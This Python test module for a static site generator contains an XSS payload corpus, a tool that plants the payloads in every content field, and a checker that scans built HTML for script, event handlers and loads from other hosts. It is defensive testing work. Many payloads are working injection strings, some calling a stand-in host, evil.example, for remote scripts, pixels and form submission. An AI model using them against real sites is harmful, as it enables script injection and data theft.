"""Hostile content for the safety tests: an XSS corpus, a planter that puts it in every text
field of a content tree, and a checker that finds anything in built HTML that could run.

The planter walks the pydantic models (not a list kept by hand), so a field added to the model
is planted without an edit here. A value the schema refuses is safe by definition; such fields
are reported as refused rather than planted.
"""

from __future__ import annotations

import copy
import itertools
import types
import typing
from collections.abc import Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urljoin, urlsplit

import yaml
from pydantic import BaseModel, ValidationError

from generator.site.csp import script_hash
from generator.errors import ContentErrors
from generator.content.hub import content_files, load_hub
from generator.content.load import format_loc
from generator.markup import browser_url, is_same_site

# --- the corpus --------------------------------------------------------------------------------

#: Markers that appear in the output only if a template engine evaluated content.
TEMPLATE_MARKERS = ("tmplated", "jinja-ran", "<class ")

#: Payloads for any text field: each tries to run script, load from another host, or escape.
PAYLOADS: tuple[str, ...] = (
    # script tags
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<script src="https://evil.example/x.js"></script>',
    "<script>/* never closed",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea></title></style></script><script>alert(1)</script>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover me</div>',
    '<a href="https://ok.example/" onclick="alert(1)">click</a>',
    "<details open ontoggle=alert(1)>",
    '" onfocus="alert(1)" autofocus="',
    "' onmouseover='alert(1)' x='",
    # javascript: links in Markdown
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "<javascript:alert(1)>",
    "[ref link][r]\n\n[r]: javascript:alert(1)",
    # javascript: and friends in raw HTML
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href=" JAVASCRIPT:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="9" y="9">x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    # attribute lists (Python-Markdown attr_list) in every position
    'a paragraph {: onclick="alert(1)" }',
    "### A heading {: onmouseover=alert(1) }",
    "![pic](/a.png){: onerror=alert(1) }",
    '[link](https://ok.example/){ onclick="alert(1)" }',
    "{ #x .y onclick=alert(1) }",
    # template syntax: must never be evaluated
    '{{ "tmpl" ~ "ated" }}',
    '{% print "jin" ~ "ja-ran" %}',
    "{{ ''.__class__ }}{{ config }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    # entities
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    # data: URLs
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "[x](data:text/html,<script>alert(1)</script>)",
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    # another host, protocol-relative and backslash forms
    '<img src="//evil.example/pixel.png">',
    "![pixel](//evil.example/pixel.png)",
    '<img src="/\\evil.example/pixel.png">',
    '<img src="\\\\evil.example\\pixel.png">',
    "![tracker](https://evil.example/pixel.png)",
    '![tracker](http://evil.example/pixel.png "t")',
    '<a href="https://evil.example/" target="_blank">no rel</a>',
    # style, frames, objects, forms and friends
    "<style>body{background:url(https://evil.example/x)}</style>",
    '<p style="background:url(https://evil.example/x)">styled</p>',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/"><input name="p"><button>Go</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    # Markdown blocks and extensions that wrap raw HTML
    "<!-- a comment --><![CDATA[<script>alert(1)</script>]]>",
    '!!! note "x"\n\n    <script>alert(1)</script>',
    "*[HTML]: <script>alert(1)</script>",
    "| a | b |\n| --- | --- |\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    '<div markdown="1">[x](javascript:alert(1))</div>',
    # spreadsheet formulas (for the sheet downloads)
    '=HYPERLINK("https://evil.example/","x")',
)

#: The payloads that hold no comma or double quote, for fields that refuse those.
PLAIN_PAYLOADS: tuple[str, ...] = tuple(p for p in PAYLOADS if "," not in p and '"' not in p)

#: Payloads for link fields: they pass as http(s)/mailto links but try to break out of an attribute.
LINK_PAYLOADS: tuple[str, ...] = (
    'https://evil-a.example/"><script>alert(1)</script>',
    "https://evil-b.example/'onmouseover='alert(1)",
    "https://evil-c.example/?q=<img/src/onerror=alert(1)>",
    'https://evil-d.example/#"onfocus="alert(1)"autofocus="',
    "https://evil-e.example/{{7*7}}{%print(1)%}",
    'mailto:x@evil-f.example?subject="><svg/onload=alert(1)>',
    "https://evil-g.example/</script><script>alert(1)</script>",
)

#: Links the schema must refuse outright.
REFUSED_LINKS: tuple[str, ...] = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "https://evil.example/a b",
    "file:///etc/passwd",
)


# --- the planter ---------------------------------------------------------------------------------

Loc = tuple[str | int, ...]
_Loader = getattr(yaml, "CSafeLoader", yaml.SafeLoader)
_Dumper = getattr(yaml, "CSafeDumper", yaml.SafeDumper)


@dataclass
class Plant:
    """One text value in one content file, and what is planted there."""

    path: str  # relative to the project root
    loc: Loc
    model: str  # the record's model and field, e.g. "Day.title"
    markdown: bool
    max_length: int
    original: str | None
    candidates: list[str]
    chosen: int = 0

    @property
    def value(self) -> str | None:
        return self.candidates[self.chosen] if self.chosen < len(self.candidates) else self.original

    @property
    def refused(self) -> bool:
        return self.chosen >= len(self.candidates)

    @property
    def kind(self) -> str:
        if self.refused:
            return "refused"
        if self.markdown:
            return "markdown"
        return "link" if self.value in LINK_PAYLOADS else "text"  # text: the full or the plain set


@dataclass
class Planting:
    """Every plant in a project, and the data of each file as planted."""

    root: Path
    plants: list[Plant] = field(default_factory=list)
    data: dict[str, Any] = field(default_factory=dict)
    models: dict[str, type[BaseModel]] = field(default_factory=dict)
    kinds: dict[str, str] = field(default_factory=dict)

    @property
    def planted(self) -> list[Plant]:
        return [p for p in self.plants if not p.refused]

    def fields(self, kind: str | None = None) -> set[str]:
        """Distinct model fields planted (or, with `kind`, planted with that kind)."""
        return {p.model for p in self.plants if (p.kind == kind if kind else not p.refused)}

    def write(self) -> None:
        for rel, data in self.data.items():
            for plant in (p for p in self.plants if p.path == rel):
                _set(data, plant.loc, plant.value)
            text = yaml.dump(data, Dumper=_Dumper, allow_unicode=True, sort_keys=False, width=10_000)
            (self.root / rel).write_text(text, encoding="utf-8")


def _unwrap(annotation: Any) -> tuple[Any, list[Any], bool]:
    """(inner type, its metadata, is a list) for `X`, `X | None`, `list[X]`, `Annotated[X, ...]`."""
    is_list = False
    metadata: list[Any] = []
    while True:
        origin = typing.get_origin(annotation)
        args = typing.get_args(annotation)
        if origin is typing.Annotated:
            annotation, metadata = args[0], [*metadata, *args[1:]]
        elif origin is list:
            annotation, is_list = args[0], True
        elif origin in (typing.Union, types.UnionType):
            annotation = next(a for a in args if a is not type(None))
        else:
            return annotation, metadata, is_list


def _is_markdown(metadata: list[Any]) -> bool:
    for meta in metadata:
        extra = getattr(meta, "json_schema_extra", None)
        if isinstance(extra, dict) and extra.get("contentMediaType") == "text/markdown":
            return True
    return False


def _max_length(metadata: list[Any]) -> int:
    found = [m.max_length for m in metadata if getattr(m, "max_length", None)]
    return min(found, default=400)


def _set(data: Any, loc: Loc, value: Any) -> None:
    """Put `value` at `loc`, making the lists it needs; None removes the slot."""
    for part, after in itertools.pairwise(loc):
        if isinstance(data, dict) and part not in data:
            data[part] = [] if isinstance(after, int) else {}
        data = data[part]
    last = loc[-1]
    if value is None:
        if isinstance(data, dict):
            data.pop(last, None)
        elif isinstance(last, int) and last < len(data):
            data.pop(last)
    elif isinstance(data, list) and last == len(data):
        data.append(value)
    else:
        data[last] = value


def _text_slots(model: type[BaseModel], data: Any, loc: Loc) -> Iterator[tuple[Loc, str, bool, int, Any]]:
    """Every str-typed slot under a record: present values, and absent optional fields."""
    if not isinstance(data, dict):
        return
    for name, info in model.model_fields.items():
        inner, metadata, is_list = _unwrap(info.annotation)
        # a list's own constraints (how many items) say nothing about each item's text
        metadata = metadata if is_list else [*info.metadata, *metadata, info]
        here = (*loc, name)
        value = data.get(name)
        if isinstance(inner, type) and issubclass(inner, BaseModel):
            if value is None and not is_list and not any(f.is_required() for f in inner.model_fields.values()):
                value = data[name] = {}  # an absent record with defaults only: plant its text too
            items = value if is_list and isinstance(value, list) else [value] if not is_list else []
            for i, item in enumerate(items):
                yield from _text_slots(inner, item, (*here, i) if is_list else here)
        elif inner is str:
            label = f"{model.__name__}.{name}"
            if is_list:
                for i, item in enumerate(value or [None]):
                    yield (*here, i), label, _is_markdown(metadata), _max_length(metadata), item
            else:
                yield here, label, _is_markdown(metadata), _max_length(metadata), value


def _pack(payloads: tuple[str, ...], start: int, limit: int, sep: str) -> str:
    """As many payloads as fit in `limit` characters, starting at `start` and wrapping round."""
    chosen: list[str] = []
    for i in range(len(payloads)):
        candidate = payloads[(start + i) % len(payloads)]
        if len(sep.join([*chosen, candidate])) > limit:
            break
        chosen.append(candidate)
    return sep.join(chosen)


def _candidates(counters: dict[bool, int], markdown: bool, limit: int) -> list[str]:
    """What to try in one slot, in order: as much of the corpus as fits, then (for plain text)
    fallbacks for narrower rules: dropdown choices refuse commas and quotes and must all fit in
    255 characters together; links need a scheme and a host."""
    step = counters[markdown]
    counters[markdown] += 1
    if markdown:  # Markdown blocks need blank lines between them
        return [_pack(PAYLOADS, step * 7, min(limit, 3000), "\n\n")]
    plain = _pack(PLAIN_PAYLOADS, step, min(limit, 40), " ")
    links = [LINK_PAYLOADS[(step + i) % len(LINK_PAYLOADS)] for i in range(len(LINK_PAYLOADS))]
    return [_pack(PAYLOADS, step * 7, min(limit, 3000), " "), plain, *links]


def plan(root: Path) -> Planting:
    """Decide what goes in every text slot of every content file under `root`."""
    planting = Planting(root)
    # The same text gets the same candidates wherever it stands, so that values which refer to
    # each other (a sample row's status and the list of statuses) stay equal as they move on.
    by_original: dict[tuple[bool, str], list[str]] = {}
    counters = {True: 0, False: 0}
    for path, model, kind in content_files(root):
        rel = path.relative_to(root).as_posix()
        data = yaml.load(path.read_text(encoding="utf-8"), Loader=_Loader)
        planting.data[rel], planting.models[rel], planting.kinds[rel] = data, model, kind
        for loc, label, markdown, limit, original in _text_slots(model, data, ()):
            key = (markdown, str(original))
            if original is None or key not in by_original:
                by_original[key] = _candidates(counters, markdown, limit)
            planting.plants.append(Plant(rel, loc, label, markdown, limit,
                                         None if original is None else str(original), by_original[key]))
    return planting


def _advance(planting: Planting, rel: str, error_loc: Loc) -> bool:
    """Move the plant the error names to its next candidate; False when none matches."""
    moved = False
    for plant in planting.plants:
        inside = plant.loc[: len(error_loc)] == error_loc or error_loc[: len(plant.loc)] == plant.loc
        if plant.path == rel and not plant.refused and inside:
            plant.chosen += 1
            moved = True
    return moved


def _settle_file(planting: Planting, rel: str) -> None:
    """Advance the file's plants until its model accepts every value."""
    model = planting.models[rel]
    plants = [p for p in planting.plants if p.path == rel]
    while True:
        data = copy.deepcopy(planting.data[rel])
        for p in plants:
            _set(data, p.loc, p.value)
        try:
            model.model_validate(data)
            return
        except ValidationError as exc:
            for err in exc.errors():
                loc = tuple(x for x in err["loc"] if isinstance(x, (str, int)))
                if not _advance(planting, rel, loc):
                    raise AssertionError(f"planting broke {rel}: {format_loc(loc)}: {err['msg']}") from None


def plant(root: Path, rounds: int = 12) -> Planting:
    """Plant the corpus in every text field under `root`, keeping the content valid.

    A value the schema or a cross-file rule refuses moves its slot to the next candidate; a slot
    that refuses every candidate keeps its original value and counts as refused."""
    planting = plan(root)
    for rel in planting.models:
        _settle_file(planting, rel)
    for _ in range(rounds):
        planting.write()
        try:
            load_hub(root)
            return planting
        except ContentErrors as exc:
            by_field = {(p.path, format_loc(p.loc)): p for p in planting.plants if not p.refused}
            named: dict[int, Plant] = {}  # each slot moves on once a round, however many errors name it
            for e in (e for e in exc.errors if e.severity == "error"):
                matches = [p for (path, loc), p in by_field.items()
                           if path == e.path and (e.field == loc or e.field.startswith((loc + ".", loc + "["))
                                                  or loc.startswith((e.field + ".", e.field + "[")))]
                if not matches:
                    raise AssertionError(f"planting broke a rule it did not plant for: {e}") from None
                named.update((id(p), p) for p in matches)
            for p in named.values():  # a slot the content left empty is left empty again
                p.chosen = len(p.candidates) if p.original is None else p.chosen + 1
    raise AssertionError("planting did not settle")


def text_fields(model: type[BaseModel], seen: set[type[BaseModel]] | None = None) -> set[str]:
    """Every str field (as `Model.field`) of a model and the records inside it."""
    seen = set() if seen is None else seen
    if model in seen:
        return set()
    seen.add(model)
    found: set[str] = set()
    for name, info in model.model_fields.items():
        inner, _metadata, _is_list = _unwrap(info.annotation)
        if isinstance(inner, type) and issubclass(inner, BaseModel):
            found |= text_fields(inner, seen)
        elif inner is str:
            found.add(f"{model.__name__}.{name}")
    return found


def has_pattern(model: type[BaseModel], name: str) -> bool:
    """True when the field's text must match a pattern (slugs, codes): no payload can pass."""
    info = model.model_fields[name]
    _inner, metadata, _is_list = _unwrap(info.annotation)
    return any(getattr(m, "pattern", None) for m in [*info.metadata, *metadata])


#: Where each kind of content file stands in hub.json: (key, list inside the file or None).
HUB_JSON_PLACES = {
    "campaign": ("campaign", None), "day": ("days", None), "activity": ("activities", None),
    "prompts": ("prompts", "prompts"), "resources": ("resources", "resources"),
}


def hub_json_value(hub: dict[str, Any], planting: Planting, plant: Plant) -> tuple[bool, Any]:
    """(found, value) of a plant's slot in hub.json; found is False for files hub.json omits."""
    place = HUB_JSON_PLACES.get(planting.kinds[plant.path])
    if place is None:
        return False, None
    key, inner = place
    data, loc = planting.data[plant.path], plant.loc
    if inner is not None:
        data, loc = data[inner][loc[1]], loc[2:]
    node = hub[key]
    if isinstance(node, list):
        node = next(item for item in node if item["id"] == data["id"])
    for part in loc:
        node = node[part]
    return True, node


# --- the checker ---------------------------------------------------------------------------------

#: Attributes whose value is a URL a browser may follow or fetch.
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "data", "poster", "xlink:href", "background", "cite",
    "ping", "manifest", "icon", "lowsrc", "dynsrc", "longdesc", "srcset", "codebase", "archive",
}
#: Elements that content must never bring, wherever they stand.
FORBIDDEN_ELEMENTS = {
    "iframe", "frame", "frameset", "object", "embed", "applet", "style", "base", "portal",
    "template", "math",
}
#: The forms the theme and our templates write (search, colour scheme, resource filters), by an
#: attribute content cannot set; none has an action, so none sends anything anywhere.
OWN_FORMS = {("name", "search"), ("data-md-component", "palette"), ("class", "lh-filters")}
#: <link> relations that do not fetch anything.
NON_FETCHING_LINKS = {"canonical", "prev", "next", "alternate"}


@dataclass
class _Script:
    attrs: dict[str, str | None]
    text: list[str] = field(default_factory=list)


class _Survivors(HTMLParser):
    """Walks a page and lists everything in it that could run script or reach another host."""

    def __init__(self, page: str, site_host: str) -> None:
        super().__init__(convert_charrefs=True)
        self.page = page
        self.site_host = site_host
        self.found: list[str] = []
        self.scripts: list[_Script] = []
        self.csp: list[str] = []
        self._script: _Script | None = None

    def _flag(self, what: str) -> None:
        self.found.append(f"{self.page}: {what}")

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        shown = f"<{tag} {' '.join(f'{k}={v!r}' for k, v in values.items())}>"
        if tag == "script":
            self._script = _Script(dict(attrs))
            self.scripts.append(self._script)
        if tag in FORBIDDEN_ELEMENTS:
            self._flag(f"forbidden element {shown}")
        own_form = any(values.get(name) == value for name, value in OWN_FORMS)
        if tag == "form" and (not own_form or "action" in values or "formaction" in values):
            self._flag(f"a form that is not the theme's or the templates' own {shown}")
        if tag == "meta" and values.get("http-equiv", "").lower() == "content-security-policy":
            self.csp.append(values.get("content", ""))
        elif tag == "meta" and "http-equiv" in values:
            self._flag(f"meta http-equiv {shown}")
        for name, value in values.items():
            if name.startswith("on"):
                self._flag(f"event handler {name} in {shown}")
            if name == "style":
                self._flag(f"style attribute in {shown}")
            if name in URL_ATTRIBUTES:
                self._check_url(tag, name, value, values, shown)
        if tag == "a" and is_outbound(values.get("href", ""), self.site_host):
            rel = set(values.get("rel", "").split())
            if not {"noopener", "noreferrer"} <= rel or "lh-external" not in values.get("class", "").split():
                self._flag(f"a link out without rel noopener noreferrer and class lh-external: {shown}")

    def _check_url(self, tag: str, name: str, value: str, values: dict[str, str], shown: str) -> None:
        urls = [u.split()[0] for u in value.split(",") if u.split()] if name == "srcset" else [value]
        for url in urls:
            scheme = urlsplit(browser_url(url)).scheme.lower()
            if scheme not in {"", "http", "https", "mailto"}:
                self._flag(f"{scheme}: URL in {shown}")
            if self._fetches(tag, name, values) and not is_same_site(url):
                self._flag(f"loads from another host: {shown}")

    @staticmethod
    def _fetches(tag: str, name: str, values: dict[str, str]) -> bool:
        """True when the browser fetches the URL to show the page (not a link to follow)."""
        if name in {"cite", "longdesc"} or (name == "href" and tag in {"a", "area"}):
            return False
        if tag == "form" and name == "action":
            return False
        if tag == "link" and name == "href":
            return not set(values.get("rel", "").lower().split()) & NON_FETCHING_LINKS
        return True

    def handle_data(self, data: str) -> None:
        if self._script is not None:
            self._script.text.append(data)

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._script = None


def is_outbound(href: str, site_host: str) -> bool:
    parts = urlsplit(browser_url(href))
    return parts.scheme.lower() in {"http", "https"} and (parts.hostname or "") != site_host


def survivors(markup: str, page: str, *, site_host: str = "", theme_scripts: set[str]) -> list[str]:
    """Everything in an HTML page that could run script or fetch from another host.

    Script elements are allowed only as the theme's: a `src` among `theme_scripts` (paths from
    the site root), the theme's JSON config, or an inline script whose hash the page's policy
    names (the policy is computed from the theme's own templates, never from content)."""
    parser = _Survivors(page, site_host)
    parser.feed(markup)
    parser.close()
    found = list(parser.found)
    if len(parser.csp) != 1:
        found.append(f"{page}: {len(parser.csp)} Content-Security-Policy metas")
    policy = parser.csp[0] if parser.csp else ""
    if "unsafe-inline" in policy or "unsafe-eval" in policy:
        found.append(f"{page}: the policy allows unsafe scripts: {policy}")
    sources = policy.replace(";", " ").split()
    page_url = urljoin("https://site.invalid/", page)
    for script in parser.scripts:
        src = script.attrs.get("src")
        kind = (script.attrs.get("type") or "").strip().lower()
        if src is not None:
            path = urlsplit(urljoin(page_url, src)).path.lstrip("/")
            if urlsplit(urljoin(page_url, src)).netloc != "site.invalid" or path not in theme_scripts:
                found.append(f"{page}: a script from {src!r}")
        elif kind == "application/json" and script.attrs.get("id") == "__config":
            continue
        elif script_hash("".join(script.text)) not in sources:
            found.append(f"{page}: an inline script the theme did not write: {''.join(script.text)[:80]!r}")
    inline = [s for s in parser.scripts if s.attrs.get("src") is None
              and (s.attrs.get("type") or "") != "application/json"]
    theme_inline = sum(word.startswith("'sha256-") for word in sources)  # one per theme script
    if len(inline) > theme_inline:
        found.append(f"{page}: {len(inline)} inline scripts, more than the {theme_inline} the theme writes")
    return found


def fragment_survivors(fragment: str, where: str) -> list[str]:
    """Anything in a sanitised HTML fragment (hub.json's `*_html`, a search entry) that could run
    script, load from another host, or is not in the sanitiser's allow-list."""
    parser = _Survivors(where, "")
    parser.feed(fragment)
    parser.close()
    found = [f for f in parser.found if "link out without rel" not in f]
    found += [f"{where}: a script element" for _ in parser.scripts]
    return found


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)


def tags_in(fragment: str) -> set[str]:
    """The names of every element in an HTML fragment."""
    parser = _Tags()
    parser.feed(fragment)
    parser.close()
    return parser.tags
